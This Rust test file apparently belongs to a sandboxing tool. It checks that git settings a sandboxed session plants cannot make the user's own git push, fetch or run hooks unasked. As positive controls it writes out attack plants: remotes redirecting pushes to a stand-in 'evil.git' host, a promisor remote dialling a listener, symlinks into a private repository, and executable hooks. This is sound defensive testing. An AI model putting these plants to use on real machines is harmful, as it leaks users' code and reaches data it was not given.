//! Remotes that a session leaves behind (P1): git outside neither talks to them unasked nor takes
//! what is the user's there.

use stockade_world::{PATIENCE, eventually, test};

use super::f_files::said;
use super::p_git::{ran, session};
use super::probe::Place;
use crate::support::standard;

/// A repository whose branch `main` belongs to a remote. The user's own git takes what is on a server for
/// what is here, so that a push arrives.
const TRACKED: &str = "cd; rm -rf project good.git evil.git ran
    git init -q --bare -b main good.git; git init -q --bare -b main evil.git
    git config --global url./home/dev/.insteadOf https://shelf.example.com/
    mkdir project; cd project; git init -q -b main
    git config user.name a; git config user.email a; git remote add origin ~/good.git
    echo one > file; git add file; git commit -q -m one; git branch bare; git push -q -u origin main 2>&1";

/// Has git come to what is missing, while somebody listens at the host's loopback.
const STATUS: &str = "cd ~/project; exec 3< <(python3 -c '
import socket
listener = socket.create_server((\"127.0.0.1\", 18999))
listener.settimeout(4)
print(\"ready\", flush=True)
listener.accept()
open(\"/home/dev/ran\", \"w\")
')
    read -u 3; timeout 3 git status; cat <&3";

#[test]
fn p01_git_outside_does_not_dial_what_a_session_chose() {
    const LOSE: &str = "tree=$(git rev-parse 'HEAD^{tree}')
        rm -f .git/objects/${tree:0:2}/${tree:2}";
    let promise =
        "git config remote.x.url git://127.0.0.1:18999/x; git config remote.x.promisor true
        git config remote.x.partialCloneFilter blob:none";
    // A repository of its own that git comes to from the top, and the user's.
    let nested = format!(
        "git init -q sub; echo two > sub/file; git -C sub add file
        git -C sub -c user.name=a -c user.email=a commit -q -m one
        git -c advice.addEmbeddedRepo=false add sub; cd sub; {promise}; {LOSE}"
    );
    test(&standard(), |world| {
        let laptop = world.laptop();
        for plant in [format!("{promise}; {LOSE}"), nested] {
            said(laptop, Place::Outside, TRACKED);
            said(laptop, Place::Outside, &format!("cd ~/project; {plant}"));
            said(laptop, Place::Outside, STATUS);
            assert!(ran(laptop), "positive control: {plant}");
            said(laptop, Place::Outside, TRACKED);
            let output = session(laptop, &plant);
            said(laptop, Place::Outside, STATUS);
            assert!(!ran(laptop), "{plant}: {output:?}");
            let stderr = output.stderr();
            assert!(
                stderr.contains("has a new setting \"remote.x.promisor"),
                "{stderr}"
            );
        }

        // No more by a name than by an address; but what a session clones itself stays usable.
        let by_name = promise.replace("127.0.0.1:18999", "www.example.com");
        said(laptop, Place::Outside, TRACKED);
        let output = session(
            laptop,
            &format!("{by_name}; git init -q new; cd new; {by_name}"),
        );
        let promisor =
            "cd ~/project; git config remote.x.promisor; git -C new config remote.x.promisor";
        let left = said(laptop, Place::Outside, promisor);
        assert_eq!(left, "true\n", "{output:?}");
        let told =
            "new/.git/config\" has a new setting \"remote.x.promisor = true\": makes git fetch";
        assert!(output.stderr().contains(told), "{output:?}");
    });
}

#[test]
fn p01_branches_of_the_users_are_not_pushed_to_remotes_of_a_session() {
    let remote = "git remote add backup https://shelf.example.com/evil.git";
    test(&standard(), |world| {
        let laptop = world.laptop();
        let push = "cd ~/project; git commit -q --allow-empty -m two; git push -q
            git -C ~/evil.git log --format=%s main";
        for plant in [
            "git config branch.main.remote backup",
            "git config branch.main.pushRemote backup",
            "git config branch.main.pushRemote https://shelf.example.com/evil.git",
            "git config remote.pushDefault backup",
            // Git pushes to all addresses of a remote, whichever file they are in.
            "git config extensions.worktreeConfig true
             git config --worktree remote.origin.url https://shelf.example.com/evil.git",
            "git config extensions.worktreeConfig true; git config branch.main.remote fork
             git config remote.fork.url ~/good.git
             git config --worktree remote.fork.url https://shelf.example.com/evil.git",
            // A remote may have the name of the repository itself.
            "git config branch.main.remote .
             git config remote...url https://shelf.example.com/evil.git",
            // Git takes the only remote.
            "git remote remove origin; git config push.default current",
        ] {
            let plant = format!("{remote}; {plant}");
            said(laptop, Place::Outside, TRACKED);
            said(laptop, Place::Outside, &format!("cd ~/project; {plant}"));
            let pushed = said(laptop, Place::Outside, push);
            assert_eq!(pushed, "two\none\n", "positive control: {plant}");
            said(laptop, Place::Outside, TRACKED);
            let output = session(laptop, &plant);
            assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
            let good = said(
                laptop,
                Place::Outside,
                "git -C ~/good.git log --format=%s main",
            );
            assert_eq!(good, "two\none\n", "{plant}: {output:?}");
        }

        // What one session may leave is no leave for the next.
        said(laptop, Place::Outside, TRACKED);
        session(laptop, remote);
        let output = session(laptop, "git config branch.main.pushRemote backup");
        assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
        said(laptop, Place::Outside, TRACKED);
        session(
            laptop,
            &format!(
                "{remote}; git remote rename origin mine; git config --unset branch.main.remote"
            ),
        );
        for plant in [
            "git config branch.main.remote backup",
            "git remote rename backup origin; git config push.default current",
        ] {
            let output = session(laptop, plant);
            assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
        }

        // A branch that has no remote yet is the user's as well; one that the session made is not.
        said(laptop, Place::Outside, TRACKED);
        let plant = format!(
            "{remote}; for branch in bare topic; do git config branch.$branch.remote backup
             git config branch.$branch.merge refs/heads/$branch; done; git branch topic"
        );
        let output = session(laptop, &plant);
        let left = "cd ~/project; git config --get-regexp 'branch.*remote|remote.*url'";
        assert_eq!(
            said(laptop, Place::Outside, left),
            "remote.origin.url /home/dev/good.git\nbranch.main.remote origin\n\
             remote.backup.url https://shelf.example.com/evil.git\nbranch.topic.remote backup\n",
            "{output:?}"
        );
    });
}

/// A repository that takes the place of the user's is not new, whatever its directory is called.
#[test]
fn p01_no_repository_takes_the_place_of_the_users() {
    const NESTED: &str = "cd ~/project; git clone -q ~/good.git sub; cd sub
        git config user.name a; git config user.email a";
    const SUBMODULE: &str = "cd ~/project
        git -c protocol.file.allow=always submodule --quiet add ~/good.git sub 2>&1
        git commit -q -m sub; cd sub; git config user.name a; git config user.email a";
    const EVIL: &str = "git config remote.backup.url https://shelf.example.com/evil.git
        git config branch.main.remote backup";
    let moved = "cd ~/project/sub; mv .git other; echo 'gitdir: other' > .git";
    let copied = "cd ~/project; cp -r .git/modules/sub .git/modules/other; cd sub
        echo 'gitdir: ../.git/modules/other' > .git";
    let push = "cd ~/project/sub; git commit -q --allow-empty -m two; git push -q
        git -C ~/evil.git log --format=%s main";
    test(&standard(), |world| {
        let laptop = world.laptop();
        for (prepare, plant) in [(NESTED, moved), (SUBMODULE, copied)] {
            let (prepare, plant) = (format!("{TRACKED}\n{prepare}"), format!("{plant}\n{EVIL}"));
            said(laptop, Place::Outside, &prepare);
            said(laptop, Place::Outside, &plant);
            let pushed = said(laptop, Place::Outside, push);
            assert_eq!(pushed, "two\none\n", "positive control: {plant}");
            said(laptop, Place::Outside, &prepare);
            let output = session(laptop, &plant);
            assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
            let stderr = output.stderr();
            assert!(stderr.contains("sub/.git\""), "{stderr}");
        }
    });
}

/// A path may lead to what a session can write, by another name, or to what it was not given.
#[test]
fn p01_no_remote_of_a_session_is_a_path() {
    const PLACE: &str = "cd; rm -rf private; git init -q -b main private; cd private
        git -c user.name=a -c user.email=a commit -q --allow-empty -m secret";
    const FETCH: &str = "cd ~/project; git fetch -q --all; git log --format=%s --remotes=backup";
    // The hook is in the cache that is kept for the workspace.
    const HOOK: &str = "cd ~/.cache; git init -q --bare fork.git; mkdir -p fork.git/hooks
        printf '#!/bin/sh\ntouch /home/dev/ran\n' > fork.git/hooks/post-receive
        chmod +x fork.git/hooks/post-receive";
    const PUSH: &str = "cd ~/project; git push -q; git switch -q main";
    test(&standard(), |world| {
        let laptop = world.laptop();
        said(laptop, Place::Outside, PLACE);
        for path in [
            "/home/dev/private",
            "file:///home/dev/private",
            "../private",
        ] {
            let plant = format!("cd ~/project; git remote add backup {path}");
            said(laptop, Place::Outside, TRACKED);
            said(laptop, Place::Outside, &plant);
            let fetched = said(laptop, Place::Outside, FETCH);
            assert_eq!(fetched, "secret\n", "positive control: {path}");
            said(laptop, Place::Outside, TRACKED);
            let output = session(laptop, &plant);
            assert_eq!(said(laptop, Place::Outside, FETCH), "", "{output:?}");
            // Who wants it has it.
            let id = output.stderr();
            let id = id.rsplit_once("accept ").expect("a command").1.trim();
            let accepted = laptop.stockade(["accept", "--yes", id]).run();
            accepted.expect("an end").expect_success();
            assert_eq!(said(laptop, Place::Outside, FETCH), "secret\n", "{path}");
        }

        said(laptop, Place::Outside, TRACKED);
        session(laptop, HOOK);
        // Somebody has opened what Stockade keeps closed.
        const OPEN: &str = "chmod 700 ~/.local/state/stockade/caches";
        let find = format!("{OPEN}; find ~/.local/state/stockade/caches -name fork.git");
        let path = said(laptop, Place::Outside, &find);
        let path = path.trim();
        assert!(!path.is_empty(), "the cache is kept");
        let plant = format!(
            "cd ~/project; git switch -q -c feature; git remote add fork {path}
             git config branch.feature.remote fork; git config push.default current"
        );
        said(laptop, Place::Outside, &plant);
        said(laptop, Place::Outside, PUSH);
        assert!(ran(laptop), "positive control");
        said(laptop, Place::Outside, TRACKED);
        let output = session(laptop, &plant);
        said(laptop, Place::Outside, &format!("{OPEN}; {PUSH}"));
        assert!(!ran(laptop), "{output:?}");
    });
}

/// Without an address, git takes the name of a remote for a path.
#[test]
fn p01_no_remote_without_an_address_leads_to_what_was_not_given() {
    const PLACE: &str = "cd; rm -rf private; git init -q -b main private; cd private
        git -c user.name=a -c user.email=a commit -q --allow-empty -m secret";
    const FETCH: &str = "cd ~/project; git fetch -q --all; git log --format=%s --remotes=up";
    test(&standard(), |world| {
        let laptop = world.laptop();
        said(laptop, Place::Outside, PLACE);
        for settings in ["", "git config extensions.worktreeConfig true;"] {
            let own = if settings.is_empty() {
                ""
            } else {
                "--worktree"
            };
            let plant = format!(
                "cd ~/project; ln -s /home/dev/private up; {settings}
                 git config {own} remote.up.fetch '+refs/heads/*:refs/remotes/up/*'"
            );
            said(laptop, Place::Outside, TRACKED);
            said(laptop, Place::Outside, &plant);
            let fetched = said(laptop, Place::Outside, FETCH);
            assert_eq!(fetched, "secret\n", "positive control: {plant}");
            said(laptop, Place::Outside, TRACKED);
            let output = session(laptop, &plant);
            assert_eq!(said(laptop, Place::Outside, FETCH), "", "{output:?}");
            let stderr = output.stderr();
            assert!(stderr.contains("new setting \"remote.up.fetch"), "{stderr}");
        }
    });
}

/// The same if a file that counts in another worktree only has the address, or had it before; and if the address
/// is a path in the workspace.
#[test]
fn p01_no_remote_with_an_address_elsewhere_leads_to_what_was_not_given() {
    const PLACE: &str = "cd; rm -rf private; git init -q -b main private; cd private
        git -c user.name=a -c user.email=a commit -q --allow-empty -m secret";
    const FETCH: &str = "cd ~/project; git fetch -q --all; git log --format=%s --remotes=up";
    const OTHER: &str = "cd ~/project; git remote add up https://shelf.example.com/good.git
        git fetch -q --all";
    const OWN: &str = "git config extensions.worktreeConfig true; cd ~/project";
    const SETTING: &str = "remote.up.fetch '+refs/heads/*:refs/remotes/up/*'";
    const LINK: &str = "ln -s /home/dev/private up";
    test(&standard(), |world| {
        let laptop = world.laptop();
        said(laptop, Place::Outside, PLACE);
        for (own, plants) in [
            (
                "",
                vec![format!(
                    "{OWN}; {LINK}; git worktree add -q side
                     git -C side config --worktree remote.up.url https://other.example.org/x
                     git config {SETTING}"
                )],
            ),
            (
                OTHER,
                vec![format!(
                    "{OWN}; {LINK}; git remote remove up; git config --worktree {SETTING}"
                )],
            ),
            (
                OTHER,
                vec![
                    format!("{OWN}; git config --worktree {SETTING}"),
                    format!("{LINK}; git remote remove up"),
                ],
            ),
            (
                "git init -q --bare server.git; git remote add up ./server",
                vec!["rm -rf server.git; ln -s /home/dev/private server.git".to_owned()],
            ),
        ] {
            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
            for plant in &plants {
                said(laptop, Place::Outside, &format!("cd ~/project; {plant}"));
            }
            let fetched = said(laptop, Place::Outside, FETCH);
            assert!(fetched.contains("secret"), "positive control: {plants:?}");
            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
            let outputs: Vec<_> = plants.iter().map(|plant| session(laptop, plant)).collect();
            let fetched = said(laptop, Place::Outside, FETCH);
            assert!(!fetched.contains("secret"), "{plants:?}: {outputs:?}");
            let last = outputs.last().expect("a session").stderr();
            assert!(last.contains("undone: "), "{plants:?}: {last}");
        }
    });
}

/// A session can rename a remote. Who goes on to use the old name names a path.
#[test]
fn p01_names_of_remotes_that_are_gone_lead_to_nothing_that_was_not_given() {
    const PLACE: &str = "cd; rm -rf private; git init -q -b main private; cd private
        git -c user.name=a -c user.email=a commit -q --allow-empty -m secret";
    const FETCH: &str = "cd ~/project; for name in origin fork; do
        git fetch -q $name 2>/dev/null && git log --format=%s FETCH_HEAD; done; true";
    const FORK: &str = "git remote add fork ~/good.git";
    const RENAME: &str = "git remote rename origin mine";
    const REMOVE: &str = "git remote remove fork";
    test(&standard(), |world| {
        let laptop = world.laptop();
        said(laptop, Place::Outside, PLACE);
        for (own, before, first, plant) in [
            ("", "", RENAME, "ln -s /home/dev/private origin"),
            ("", "", RENAME, "ln -s /home/dev/private origin.git"),
            (
                "",
                "",
                RENAME,
                "echo gitdir: /home/dev/private/.git > origin",
            ),
            (
                "",
                "",
                RENAME,
                "mkdir origin; ln -s /home/dev/private/.git origin/.git",
            ),
            (
                "",
                "",
                RENAME,
                "mkdir origin; echo 'ref: refs/heads/main' > origin/HEAD
                 echo /home/dev/private/.git > origin/commondir",
            ),
            // In a session before.
            ("", RENAME, "", "ln -s /home/dev/private origin"),
            (FORK, "", REMOVE, "ln -s /home/dev/private fork"),
        ] {
            let script = format!("{first}\n{plant}");
            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
            let all = format!("cd ~/project\n{before}\n{script}");
            said(laptop, Place::Outside, &all);
            let fetched = said(laptop, Place::Outside, FETCH);
            assert!(fetched.contains("secret"), "positive control: {script}");
            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
            if !before.is_empty() {
                session(laptop, before);
            }
            let output = session(laptop, &script);
            let fetched = said(laptop, Place::Outside, FETCH);
            assert!(!fetched.contains("secret"), "{script}: {output:?}");
            let stderr = output.stderr();
            assert!(stderr.contains("undone: "), "{script}: {stderr}");
        }
    });
}

/// The same while the session runs: git outside runs the hooks of what it pushes to.
#[test]
fn p01_names_of_remotes_that_are_gone_lead_to_no_hooks_while_the_session_runs() {
    const SUB: &str = "git init -q -b main sub; git -C sub remote add origin ~/good.git
        git -C sub -c user.name=a -c user.email=a commit -q --allow-empty -m two
        git -c advice.addEmbeddedRepo=false add sub";
    const HOOK: &str = "git remote rename origin mine 2>/dev/null
        git init -q --bare origin; mkdir -p origin/hooks
        printf '#!/bin/sh\\ntouch ~/ran\\n' > origin/hooks/pre-receive; chmod +x origin/hooks/pre-receive";
    test(&standard(), |world| {
        let laptop = world.laptop();
        let outside = |script: &str| said(laptop, Place::Outside, script);
        for place in ["~/project", "~/project/sub"] {
            let own = format!("{TRACKED}\n{SUB}");
            let hook = format!("cd {place}; {HOOK}");
            let push = format!("cd {place}; git push -q origin main");
            outside(&own);
            outside(&hook);
            outside(&push);
            assert!(ran(laptop), "positive control: {place}");
            outside(&own);
            let script = format!("{hook}; echo planted; read -r line");
            let words = ["run", "--", "bash", "-c", &script];
            let mut running = laptop.stockade(words).spawn().expect("a session");
            running.expect("planted").expect("it is planted");
            let list = format!("ls {place}/origin/hooks/pre-receive 2>/dev/null");
            let is_gone = || outside(&list).is_empty();
            eventually("it is undone", PATIENCE, is_gone).expect("undone");
            outside(&push);
            assert!(!ran(laptop), "{place}");
            running.write("\n").expect("write");
            let output = running.wait().expect("an end");
            assert!(output.stderr().contains("undone: "), "{output:?}");
        }
    });
}

/// With `push.default = upstream`, what a branch follows is where it is pushed to.
#[test]
fn p01_branches_of_the_users_are_not_pushed_to_other_branches() {
    const PUSH: &str = "cd ~/project; git switch -q bare; git commit -q --allow-empty -m two
        git push -q; git switch -q main; git -C ~/good.git log --format=%s main";
    const FOLLOW: &str = "cd ~/project; git config branch.bare.remote origin
        git config branch.bare.merge refs/heads/main";
    const UPSTREAM: &str = "cd ~/project; git config push.default upstream";
    test(&standard(), |world| {
        let laptop = world.laptop();
        // What the user has set of it, and what a session sets.
        for (own, plant) in [
            ("", format!("{FOLLOW}; {UPSTREAM}")),
            (FOLLOW, UPSTREAM.to_owned()),
            (UPSTREAM, FOLLOW.to_owned()),
        ] {
            said(
                laptop,
                Place::Outside,
                &format!("{TRACKED}\n{own}\n{plant}"),
            );
            let pushed = said(laptop, Place::Outside, PUSH);
            assert_eq!(pushed, "two\none\n", "positive control: {plant}");
            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
            let output = session(laptop, &plant);
            assert_eq!(said(laptop, Place::Outside, PUSH), "one\n", "{output:?}");
        }
    });
}
